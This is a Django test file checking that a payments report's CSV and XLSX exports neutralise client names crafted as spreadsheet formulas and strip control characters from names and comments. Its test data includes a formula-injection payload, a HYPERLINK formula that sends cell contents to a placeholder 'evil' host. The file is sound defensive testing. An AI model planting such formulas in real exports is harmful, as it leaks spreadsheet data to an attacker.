"""The payments report's CSV and XLSX, downloaded the way staff do, with client names a
stranger could plant through online booking (formulas, control characters)."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from tests.factories_ledger import make_client, make_entry

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)"]
UKRAINIAN = "Іваненко Марія-Олена"


def _report(staff_client, fmt: str):
    response = staff_client.get(reverse("ledger:payments_report"), {"export": fmt})
    assert response.status_code == 200
    return response


def _csv_by_client(response) -> dict[str, list[str]]:
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    client = rows[0].index("Клієнт")
    return {row[client]: row for row in rows[1:]}


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    return [c.value for c in rows[0]], rows[1:]


def test_client_names_that_look_like_formulas_export_inert(org, branch, staff_client):
    for name in [*FORMULAS, UKRAINIAN]:
        make_entry(make_client(org, name), amount=10_000, branch=branch)
    make_entry(make_client(org, "Борг"), "credit", 3_050, purpose="service", branch=branch)

    by_client = _csv_by_client(_report(staff_client, "csv"))
    for name in FORMULAS:
        assert f"'{name}" in by_client, sorted(by_client)
    assert UKRAINIAN in by_client  # a hyphen inside a name is not touched
    assert by_client["Борг"][4] == "-30,50"  # a negative amount is a plain number

    header, rows = _xlsx_rows(_report(staff_client, "xlsx"))
    assert all(c.data_type != "f" for row in rows for c in row)
    client, amount = header.index("Клієнт"), header.index("Сума")
    names = {row[client].value: row for row in rows}
    assert set(names) == {*FORMULAS, UKRAINIAN, "Борг"}
    for name in FORMULAS:
        cell = names[name][client]
        assert cell.data_type == "s" and cell.quotePrefix is True
    assert not names[UKRAINIAN][client].quotePrefix
    debt = names["Борг"][amount]
    assert debt.data_type == "n" and debt.value == -30.5 and debt.number_format == "0.00"
    assert names[UKRAINIAN][amount].value == 100


def test_a_control_character_in_a_name_or_comment_does_not_break_the_xlsx(
    org, branch, staff_client
):
    # The client rows are written directly, as rows stored before input was cleaned
    # (PostgreSQL cannot hold NUL, so no \x00 here: the shared module's own tests cover it).
    broken = make_client(org, "Ган\x0bна Ко\x1bваль")
    make_entry(broken, amount=5_000, branch=branch, comment="пер\x1bший\nрядок")
    make_entry(make_client(org, UKRAINIAN), amount=7_000, branch=branch)

    header, rows = _xlsx_rows(_report(staff_client, "xlsx"))
    client, comment = header.index("Клієнт"), header.index("Коментар")
    by_name = {row[client].value: row for row in rows}
    assert set(by_name) == {"Ганна Коваль", UKRAINIAN}
    assert by_name["Ганна Коваль"][comment].value == "перший\nрядок"

    by_client = _csv_by_client(_report(staff_client, "csv"))
    assert set(by_client) == {"Ганна Коваль", UKRAINIAN}
